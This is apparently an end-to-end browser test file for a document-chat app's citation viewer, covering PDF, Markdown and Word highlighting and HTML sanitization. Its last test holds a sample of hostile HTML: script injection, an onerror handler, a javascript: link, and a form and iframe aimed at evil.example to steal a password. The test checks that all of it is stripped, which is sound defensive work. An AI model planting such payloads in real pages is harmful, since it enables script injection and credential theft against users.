"""A citation leads to its source: the passage dialog shows the passage as formatted text, and "Open document"
renders the cited PDF page in the browser (pdf.js, its worker and fonts served by this origin) with the passage
highlighted, the Markdown document rendered, a Word document as its indexed text, each with the passage
highlighted."""

from __future__ import annotations

import re
from urllib.parse import urlsplit

import pytest

from tests.e2e.browser.ui import FilePayload, Locator, Page, expect, open_new_chat, send, sign_up, upload_and_wait_ready
from tests.support.server_process import ServerProcess
from tests.support.text_pdf import text_pdf
from tests.unit.ingestion.sample_files import word_document


@pytest.fixture(scope="module")
def server(module_server: ServerProcess) -> ServerProcess:
    """One server for the module: each test signs up users of its own."""
    return module_server

FILLER = " ".join(f"Ledger entry {i} records the quarterly rent paid for the office." for i in range(10))
PGVECTOR = " ".join(
    [
        "Pgvector adds vector similarity search to PostgreSQL.",
        "Embeddings are stored in a column of type vector next to the rows they describe.",
        "One query can filter by owner and rank by similarity at the same time.",
        "It supports cosine distance, inner product and Euclidean distance.",
        "Exact search scans every vector, which is fine for a few thousand rows.",
        "An HNSW index answers nearest neighbour queries quickly at the cost of memory.",
        "An IVFFlat index builds faster but must be built after the table holds data.",
        "Its recall depends on how many lists are probed for each query.",
        "Because the vectors live in the database, backups cover them without a second system.",
        "Transactions make a document and its vectors appear together or not at all.",
        "Iterative index scans keep filtered results full when few rows match the filter.",
        "Halfvec columns store each dimension in two bytes and halve the index size.",
        "Binary quantization goes further, for a first pass that a rerank corrects.",
        "Partial indexes can serve one tenant or one model version each.",
        "Vacuum keeps the HNSW graph healthy after many updates and deletes.",
        "Maintenance work memory decides how quickly a large index is built.",
    ]
)


def _fold(text: str) -> str:
    return re.sub(r"[^0-9a-z]", "", text.lower())


def _watch(page: Page) -> tuple[list[str], list[str]]:
    violations: list[str] = []
    hosts: list[str] = []
    page.on("console", lambda m: violations.append(m.text) if "Content Security Policy" in m.text else None)
    page.on("request", lambda r: hosts.append(urlsplit(r.url).netloc) if r.url.startswith("http") else None)
    return violations, hosts


async def _highlighted(page: Page) -> str:
    """The text of the range registered with the CSS Custom Highlight API, as the viewer painted it."""
    return str(
        await page.evaluate(
            "() => [...(CSS.highlights.get('ragchat-passage') ?? [])].map((r) => r.toString()).join('')"
        )
    )


async def _cited_on_page(answer: Locator, page_number: int) -> Locator:
    chip = answer.locator(f'[data-testid="citation-chip"][aria-label*="page {page_number}"]').first
    await expect(chip).to_be_visible()
    return chip


async def test_a_cited_pdf_page_opens_rendered_with_the_passage_highlighted(page: Page, server: ServerProcess) -> None:
    violations, hosts = _watch(page)
    await sign_up(page, "viewer@example.com")
    await page.get_by_test_id("nav-documents").click()
    pdf = text_pdf([FILLER, PGVECTOR, FILLER])
    await page.get_by_test_id("upload-input").set_input_files(
        files=[FilePayload(name="pgvector.pdf", mimeType="application/pdf", buffer=pdf)]
    )
    row = page.locator('[data-testid="document-row"][data-filename="pgvector.pdf"]')
    await expect(row.get_by_test_id("doc-status")).to_have_attribute("data-status", "ready", timeout=60_000)
    await open_new_chat(page)

    answer = await send(page, "What does pgvector add to PostgreSQL, and which indexes does it offer?")
    await expect(answer).to_have_attribute("data-status", "complete", timeout=30_000)
    await (await _cited_on_page(answer, 2)).click()

    panel = page.get_by_test_id("citation-panel")
    await expect(panel).to_contain_text("pgvector.pdf")
    await expect(panel).to_contain_text("page 2")
    paragraphs = panel.get_by_test_id("passage-text").locator("p")
    passage = " ".join(await paragraphs.all_text_contents())
    assert "\n" not in passage, "the passage keeps the PDF's line breaks"
    assert _fold(passage) in _fold(PGVECTOR + FILLER)

    await panel.get_by_test_id("open-document").click()
    viewer = page.get_by_test_id("document-viewer")
    await expect(viewer).to_be_visible()
    await expect(viewer.get_by_test_id("pdf-page-number")).to_have_attribute("data-page", "2", timeout=30_000)
    await expect(viewer.get_by_test_id("pdf-page-number")).to_have_text("Page 2 of 3")
    await expect(viewer.get_by_test_id("pdf-text-layer")).to_have_attribute("data-rendered", "true", timeout=30_000)
    await expect(viewer.get_by_test_id("viewer-content")).to_have_attribute("data-highlighted", re.compile(r"\w"))

    highlighted = _fold(await _highlighted(page))
    assert len(highlighted) >= 40, highlighted
    assert highlighted in _fold(PGVECTOR), "the highlight is not on the cited text of page 2"
    assert highlighted in _fold(passage) or _fold(passage).startswith(highlighted[:40])
    canvas = viewer.locator(".pdf-page canvas")
    assert (await canvas.evaluate("(c) => c.width")) > 300  # the page was drawn, not only its text

    await viewer.get_by_role("button", name="Next page").click()
    await expect(viewer.get_by_test_id("pdf-page-number")).to_have_text("Page 3 of 3")
    assert not violations, violations
    assert set(hosts) == {urlsplit(server.url).netloc}, "the viewer loaded something from another origin"


async def test_a_cited_markdown_document_opens_rendered_with_the_passage_highlighted(page: Page) -> None:
    await sign_up(page, "markdown-viewer@example.com")
    await upload_and_wait_ready(page, "guide.md")
    await open_new_chat(page)
    answer = await send(page, "What does pgvector add to PostgreSQL?")
    await expect(answer).to_have_attribute("data-status", "complete", timeout=30_000)
    await answer.get_by_test_id("citation-chip").first.click()

    panel = page.get_by_test_id("citation-panel")
    passage = panel.get_by_test_id("passage-text")
    await expect(passage).to_contain_text("Pgvector adds vector similarity search to PostgreSQL.")
    assert "**" not in await passage.inner_text() and "# " not in await passage.inner_text()

    await panel.get_by_test_id("open-document").click()
    viewer = page.get_by_test_id("document-viewer")
    await expect(viewer.get_by_test_id("viewer-content")).to_have_attribute("data-kind", "markdown")
    await expect(viewer.locator(".document-body h1").first).to_have_text("Pgvector")
    await expect(viewer.get_by_test_id("viewer-content")).to_have_attribute("data-highlighted", re.compile(r"\w"))
    assert "pgvectoraddsvectorsimilaritysearch" in _fold(await _highlighted(page))
    await viewer.get_by_role("button", name="Close").click()
    await expect(viewer).to_be_hidden()

    # A search hit opens its document the same way; the document list opens it without a passage.
    await page.get_by_test_id("nav-documents").click()
    await page.get_by_test_id("search-input").fill("IVFFlat index recall")
    await page.get_by_test_id("search-button").click()
    await page.get_by_test_id("search-result").first.get_by_test_id("search-open-document").click()
    await expect(viewer.get_by_test_id("viewer-content")).to_have_attribute("data-highlighted", re.compile(r"\w"))
    assert "ivfflat" in _fold(await _highlighted(page))
    await viewer.get_by_role("button", name="Close").click()
    await page.get_by_test_id("view-document").first.click()
    await expect(viewer.locator(".document-body h2").first).to_have_text("Indexes")
    assert await _highlighted(page) == ""


async def test_a_cited_word_document_opens_as_its_indexed_text_with_the_passage_highlighted(page: Page) -> None:
    await sign_up(page, "word-viewer@example.com")
    await page.get_by_test_id("nav-documents").click()
    await page.get_by_test_id("upload-input").set_input_files(
        files=[FilePayload(name="handbook.docx", mimeType="application/octet-stream", buffer=word_document())]
    )
    row = page.locator('[data-testid="document-row"][data-filename="handbook.docx"]')
    await expect(row.get_by_test_id("doc-status")).to_have_attribute("data-status", "ready", timeout=60_000)
    await open_new_chat(page)
    answer = await send(page, "When should flights be booked?")
    await expect(answer).to_have_attribute("data-status", "complete", timeout=30_000)
    await answer.get_by_test_id("citation-chip").first.click()
    await page.get_by_test_id("citation-panel").get_by_test_id("open-document").click()

    viewer = page.get_by_test_id("document-viewer")
    await expect(viewer.get_by_test_id("viewer-content")).to_have_attribute("data-kind", "docx")
    await expect(viewer.locator(".document-body p", has_text="Book flights two weeks ahead.")).to_be_visible()
    await expect(viewer.get_by_test_id("viewer-content")).to_have_attribute("data-highlighted", re.compile(r"\w"))
    assert "bookflightstwoweeksahead" in _fold(await _highlighted(page))


HOSTILE_HTML = b"""<!doctype html><html><head><title>Runbook</title><style>body{display:none}</style>
<script>window.__pwned = 'script'</script></head><body>
<h1>Runbook</h1>
<p style="color:red">Restart the worker with <b>systemctl restart ragchat-worker</b> after changing settings.</p>
<img src="x" onerror="window.__pwned = 'onerror'">
<a href="javascript:window.__pwned = 'link'">click me</a>
<form action="https://evil.example/steal"><input name="password"></form>
<iframe src="https://evil.example/"></iframe>
</body></html>"""


async def test_an_html_document_is_shown_sanitized(page: Page, server: ServerProcess) -> None:
    violations, hosts = _watch(page)
    await sign_up(page, "html-viewer@example.com")
    await page.get_by_test_id("nav-documents").click()
    await page.get_by_test_id("upload-input").set_input_files(
        files=[FilePayload(name="runbook.html", mimeType="text/html", buffer=HOSTILE_HTML)]
    )
    row = page.locator('[data-testid="document-row"][data-filename="runbook.html"]')
    await expect(row.get_by_test_id("doc-status")).to_have_attribute("data-status", "ready", timeout=60_000)
    await row.get_by_test_id("view-document").click()

    body = page.get_by_test_id("document-viewer").get_by_test_id("document-text")
    await expect(body.locator("h1")).to_have_text("Runbook")
    await expect(body.locator("b")).to_have_text("systemctl restart ragchat-worker")
    await expect(body.get_by_text("click me")).to_be_visible()
    assert await body.locator("script, style, img, form, input, iframe, [style], [onerror]").count() == 0
    assert await body.locator("a").get_attribute("href") is None  # the javascript: URL is gone
    await body.get_by_text("click me").click()
    assert await page.evaluate("() => window.__pwned ?? null") is None
    assert not violations, violations
    assert set(hosts) == {urlsplit(server.url).netloc}
